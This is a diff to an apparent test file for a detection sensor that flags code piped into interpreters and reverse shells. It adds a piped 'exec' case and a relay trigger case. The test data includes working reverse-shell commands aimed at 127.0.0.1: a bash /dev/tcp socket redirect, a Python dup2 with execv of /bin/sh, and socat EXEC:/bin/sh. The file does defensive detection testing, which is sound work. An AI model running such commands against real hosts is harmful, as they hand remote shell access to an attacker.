@@ -10,10 +10,10 @@ import subprocess
 import sys
 import threading
 
-from sensor import PATIENCE, ROOT, Sensor, directory, get, start, until
+from sensor import PATIENCE, ROOT, TRIGGERS, Sensor, directory, get, start, until
 from tap import Skip, equal, run, test
 
-CODE = b"true\n"  # nothing, in every language that is tested but those of OTHER_CODE
+CODE = b"true\n"  # to other languages than the shell an error, which is as good
 PIPED = "Code fed to an interpreter by a pipe or a descriptor"
 RELAYED = "Shell behind a process with a network connection"
 RULES = [os.path.join(ROOT, "rules/execution", name + ".yml") for name in (
@@ -180,6 +180,7 @@ piped("python_feeds", "python -c that feeds a shell itself",
 
 piped("cat", "cat | sh", "cat code | sh", "low", "cat code")
 piped("builtin", "echo | sh, by a builtin", "echo true | sh", "low")
+piped("replaced", "code that replaces its shell", "echo exec true | sh", "low")
 piped("here_string", "a here-string", "bash <<<true", "low")
 piped("here_document", "a here-document of dash", "sh <<END\ntrue\nEND", "low", shell="dash")
 piped("here_python", "a here-document for python", "python3 - <<END\npass\nEND", "informational")
@@ -312,6 +313,8 @@ reverse("dup2", "a socket as all three streams: critical",
         ["/usr/bin/python3", "-c", CONNECT + DUP + "os.execv('/bin/sh',['sh'])"], {DIRECT})
 reverse("input_only", "a socket as standard input and another descriptor for what it says: critical",
         ["/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/PORT; exec sh <&5 >&5 2>/dev/null"], {DIRECT})
+reverse("relay", "a relay of the attacker's own: high", [os.path.join(TRIGGERS, "relay"), "PORT"],
+        {(RELAYED, "high")})
 reverse("socat", "socat EXEC, a socket pair: high",
         ["/usr/bin/socat", "TCP:127.0.0.1:PORT", "EXEC:/bin/sh"], {(RELAYED, "high")}, ["socat"])
 reverse("socat_pty", "socat EXEC, a terminal: high",
